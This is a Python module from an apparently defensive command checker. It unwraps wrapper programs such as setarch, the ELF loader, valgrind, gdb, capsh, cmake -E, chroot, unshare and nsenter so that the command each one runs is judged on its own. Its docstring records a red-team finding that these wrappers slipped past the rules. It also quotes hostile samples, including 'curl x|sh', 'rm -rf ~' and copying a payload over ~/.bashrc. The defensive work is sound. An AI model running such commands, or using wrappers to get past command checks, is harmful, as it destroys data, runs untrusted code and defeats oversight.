"""More programs that run a command given in their arguments, each read as the program reads its
own command line, so that the command it runs is judged like the command itself.

A red team found these ran a command no rule judged: ``setarch x86_64 sh -c 'curl x|sh'`` was
``approve`` where ``sh -c 'curl x|sh'`` is denied, and so were the ELF loader run directly
(``/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~``), ``valgrind``, ``gdb --args``, ``capsh --``
(which hands its words to bash), ``cmake -E env|chdir|time`` and the chroot-like wrappers'
working directories (``unshare -w / rm -rf root``). Each reader says where the command starts
(:class:`~._unwrapped.Unwrapped`), and the directory it runs in when the wrapper moves it.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable

from ._call import Values
from ._getopt import grammar, read_options
from ._program_kinds import SENSITIVE_ENV
from ._unwrapped import Unwrapped

__all__ = ["MORE_WRAPPERS", "gdb_program", "is_loader", "run_by_loader"]

_SETARCH = grammar(
    "+hVv3BFILRSTXZ",
    "32bit/B fdpic-funcptrs/F short-inode/I addr-compat-layout/L addr-no-randomize/R "
    "whole-seconds/S sticky-timeouts/T read-implies-exec/X mmap-page-zero/Z 3gb/3 4gb "
    "uname-2.6 verbose/v list help/h version/V",
)
"""util-linux 2.38's setarch, and its aliases (``linux32``, ``x86_64`` ...)."""


def _setarch(values: Values, *, named_arch: bool) -> Unwrapped | None:
    """``setarch [ARCH] [options] [CMD...]``: as ``setarch`` its first word is the architecture
    unless it starts with ``-``; an alias is its own architecture. With no command it runs
    ``/bin/sh``, which reads its input."""
    skip = int(named_arch and bool(values) and not (values[0] or "").startswith("-"))
    read = read_options(_SETARCH, values[skip:])
    if any(read.given(key) for key in ("h", "V", "list")):
        return None
    why = "runs a command with another personality"
    starts = tuple(index + skip for index in read.operands)
    if read.problem is not None:
        return Unwrapped(None, (), f"{why}; {read.problem}", may_start=_options_or_not(values))
    if not starts:
        return Unwrapped(len(values), (), f"{why}: a shell", program="/bin/sh")
    return Unwrapped(starts[0], (), why)


def _options_or_not(values: Values, first: int = 0) -> tuple[int, ...]:
    """Every word from ``first`` on that is not an option: where a command may start."""
    return tuple(
        index
        for index in range(first, len(values))
        if values[index] is None or not (values[index] or "").startswith("-")
    )[:8]


_LOADER_NAME = re.compile(
    r"ld-linux[\w.-]*\.so[\w.]*|ld\.so|ld64\.so\.\d+|ld-musl-[\w.-]+\.so[\w.]*"
)
"""The ELF program interpreter run as a program: glibc's (``ld-linux-x86-64.so.2``,
``ld.so``, ``ld64.so.2``) and musl's (``ld-musl-x86_64.so.1``)."""
_LOADER_VALUED = frozenset({"--library-path", "--glibc-hwcaps-prepend", "--glibc-hwcaps-mask",
                            "--inhibit-rpath", "--audit", "--preload", "--argv0"})  # fmt: skip
_LOADER_FLAGS = frozenset({"--inhibit-cache"})
_LOADER_NO_RUN = frozenset({"--list", "--verify", "--list-tunables", "--list-diagnostics",
                            "--help", "--version"})  # fmt: skip


def is_loader(name: str) -> bool:
    return _LOADER_NAME.fullmatch(name) is not None


def run_by_loader(values: Values) -> Unwrapped | None:
    """``ld.so [--library-path P] [--preload L] [--argv0 S] PROGRAM ARGS``: the loader reads
    only these exact words as options (no ``=``, no abbreviation) and runs the first other
    word as the program; ``--list`` and ``--verify`` run nothing."""
    index = 0
    while index < len(values):
        value = values[index]
        if value in _LOADER_NO_RUN:
            return None
        if value in _LOADER_VALUED:
            index += 2
        elif value in _LOADER_FLAGS:
            index += 1
        else:
            break
    start = index if index < len(values) else None
    return Unwrapped(start, (), "runs a program with the dynamic loader")


_VALGRIND_NO_RUN = frozenset({"-h", "--help", "--help-debug", "--help-dyn-options", "--version"})


def _valgrind(values: Values) -> Unwrapped | None:
    """``valgrind [OPTIONS] PROGRAM ARGS``: its options are single words (``--tool=none``,
    ``-q``) up to the first word that is not one, or ``--``; ``--log-file=F`` and
    ``--xml-file=F`` write F."""
    index = 0
    writes: list[str] = []
    while index < len(values) and (values[index] or "").startswith("-"):
        value = values[index] or ""
        index += 1
        if value == "--":
            break
        if value in _VALGRIND_NO_RUN:
            return None
        option, _, written = value.partition("=")
        if option in ("--log-file", "--xml-file") and written:
            writes.append(f"true > {shlex.quote(written)}")
    start = index if index < len(values) else None
    return Unwrapped(start, tuple(writes), "runs a program under valgrind")


_GDB_ARGS = re.compile(r"--?ar(?:gs?)?")
"""gdb's ``--args`` as getopt_long_only takes it: one or two dashes, any prefix from ``ar``."""


def gdb_program(values: Values) -> int | None:
    """Where the program of ``gdb ... --args PROGRAM ARGS`` is: gdb stops reading options at
    ``--args`` and runs the next word with the rest as its arguments (``-ex run``)."""
    for index, value in enumerate(values):
        if value == "--":
            return None
        if value is not None and _GDB_ARGS.fullmatch(value):
            return index + 1 if index + 1 < len(values) else None
    return None


_CAPSH_SHELL_RUNS = frozenset({"--", "-+"})
_CAPSH_CAPSH_RUNS = frozenset({"==", "=+"})


def _capsh(values: Values) -> Unwrapped | None:
    """``capsh [args] -- ARGS`` runs ``/bin/bash ARGS`` (``--shell=PATH``: PATH instead;
    ``-+`` the same, launched), and ``== ARGS`` runs capsh again with ARGS; each argument before
    is one word (``--caps=...``), and without these capsh runs nothing."""
    shell: str | None = "/bin/bash"
    for index, value in enumerate(values):
        if value in _CAPSH_SHELL_RUNS:
            return _capsh_shell(index + 1, shell)
        if value in _CAPSH_CAPSH_RUNS:
            return Unwrapped(index + 1, (), "runs capsh again", program="capsh")
        if value is None:  # it may be --shell=...: the shell is not known
            shell = None
        elif value.startswith("--shell="):
            shell = value.partition("=")[2]
    return None


def _capsh_shell(start: int, shell: str | None) -> Unwrapped:
    why = "runs a shell with changed capabilities"
    if shell is None:  # its arguments are still read as bash's (-c SCRIPT)
        return Unwrapped(start, (), f"{why}, one named at run time", program="bash")
    return Unwrapped(start, (), why, program=shell)


_CMAKE_AS_COREUTILS = {
    "rm": ("rm",), "remove": ("rm", "-f"), "remove_directory": ("rm", "-rf"),
    "copy": ("cp",), "copy_if_different": ("cp",), "copy_directory": ("cp", "-rT"),
    "copy_directory_if_different": ("cp", "-rT"), "rename": ("mv",), "touch": ("touch",),
    "touch_nocreate": ("touch", "-c"), "make_directory": ("mkdir", "-p"),
    "create_symlink": ("ln", "-s"), "create_hardlink": ("ln",), "cat": ("cat",),
}  # fmt: skip
"""``cmake -E`` commands that do what a coreutils program does, judged as that program
(``cmake -E rm -rf /root``, ``cmake -E copy payload ~/.bashrc``)."""


def _cmake(values: Values) -> Unwrapped | None:
    """``cmake -E env|chdir|time`` run the command that follows (``env`` after its
    ``--unset=N``, ``--modify OP`` and ``NAME=VALUE`` words, ``chdir`` in its directory);
    cmake reads ``-E`` only as its first word, and its other ``-E`` commands run nothing."""
    if values[:1] != ("-E",) or len(values) < 2:
        return None
    mode, why = values[1], "runs a command"
    if mode in _CMAKE_AS_COREUTILS and None not in values:  # cmake -E rm -rf ~ is rm -rf ~
        program, *extra = _CMAKE_AS_COREUTILS[mode]
        spelled = shlex.join([program, *extra, *(v for v in values[2:] if v is not None)])
        return Unwrapped(None, (spelled,), f"does what {program} does")
    if mode == "time":
        return Unwrapped(2 if len(values) > 2 else None, (), why)
    if mode == "chdir" and len(values) > 3:
        return Unwrapped(3, (), f"{why} in a directory", directories=(values[2],))
    if mode != "env":
        return None
    index, assigned = 2, []
    while index < len(values):
        value = values[index]
        if value == "--":
            index += 1
            break
        if value == "--modify":
            index += 2
        elif value is not None and (value.startswith("--unset=") or "=" in value):
            assigned += [value] if not value.startswith("-") else []
            index += 1
        else:
            break
    sensitive = [a for a in assigned if SENSITIVE_ENV.match(a.partition("=")[0])]
    scripts = (f"env {' '.join(map(shlex.quote, sensitive))} true",) if sensitive else ()
    return Unwrapped(index if index < len(values) else None, scripts, f"{why} in an environment")


_CHROOT = grammar("+", "groups= userspec= skip-chdir help version")
_UNSHARE = grammar(
    "+fhVmuinpCTUrcR:w:S:G:",
    "help/h version/V mount=?/m uts=?/u ipc=?/i net=?/n pid=?/p user=?/U cgroup=?/C time=?/T "
    "fork/f kill-child=? mount-proc=? map-user= map-users= map-group= map-groups= "
    "map-root-user/r map-current-user/c map-auto propagation= setgroups= keep-caps "
    "setuid=/S setgid=/G root=/R wd=/w monotonic= boottime=",
)
_NSENTER = grammar(
    "+ahVt:m::u::i::n::p::C::U::T::S:G:r::w::W:FZ",
    "all/a help/h version/V target=/t mount=?/m uts=?/u ipc=?/i net=?/n pid=?/p user=?/U "
    "cgroup=?/C time=?/T setuid=/S setgid=/G preserve-credentials root=?/r wd=?/w wdns=/W "
    "no-fork/F follow-context/Z",
)
"""coreutils 9's chroot and util-linux 2.38's unshare and nsenter."""


def _chroot(values: Values) -> Unwrapped | None:
    """``chroot DIR [CMD...]``: CMD runs in ``/`` of the new root (``--skip-chdir``: where it
    was); with no command, ``$SHELL -i``."""
    read = read_options(_CHROOT, values)
    if read.given("help") or read.given("version") or read.first_operand is None:
        return None
    moves = () if read.given("skip-chdir") else ("/",)
    start = read.first_operand + 1
    why = "runs a command in another root directory"
    if start >= len(values):
        return Unwrapped(start, (), f"{why}: a shell", program="/bin/sh", directories=moves)
    return Unwrapped(start, (), why, directories=moves)


def _unshare(values: Values) -> Unwrapped | None:
    """``unshare [options] [CMD...]``: ``-R DIR`` runs it in ``/`` of DIR, ``-w DIR`` in DIR;
    with no command, ``$SHELL``."""
    read = read_options(_UNSHARE, values)
    if read.given("h") or read.given("V"):
        return None
    moves = ("/",) if read.given("R") else ()
    return _namespaced(read.first_operand, len(values), moves + tuple(read.values("w")))


def _nsenter(values: Values) -> Unwrapped | None:
    """``nsenter [options] [CMD...]``: ``-w DIR`` runs it in DIR, ``-w`` alone in the target
    process's directory, ``-W DIR`` in DIR of the namespace (not known here)."""
    read = read_options(_NSENTER, values)
    if read.given("h") or read.given("V"):
        return None
    moves: tuple[str | None, ...] = tuple(read.values("w"))
    moves += (None,) if read.given("W") or (read.given("r") and not moves) else ()
    return _namespaced(read.first_operand, len(values), moves)


def _namespaced(start: int | None, count: int, moves: tuple[str | None, ...]) -> Unwrapped:
    why = "runs a command in new namespaces"
    if start is None or start >= count:
        return Unwrapped(count, (), f"{why}: a shell", program="/bin/sh", directories=moves)
    return Unwrapped(start, (), why, directories=moves)


MORE_WRAPPERS: dict[str, Callable[[Values], Unwrapped | None]] = {
    "setarch": lambda v: _setarch(v, named_arch=True),
    **dict.fromkeys(
        ("linux32", "linux64", "i386", "x86_64", "uname26"),
        lambda v: _setarch(v, named_arch=False),
    ),
    "valgrind": _valgrind,
    "capsh": _capsh,
    "cmake": _cmake,
    "chroot": _chroot,
    "unshare": _unshare,
    "nsenter": _nsenter,
}
"""Readers by program name; the loader (:func:`is_loader`) is read by :func:`run_by_loader`."""
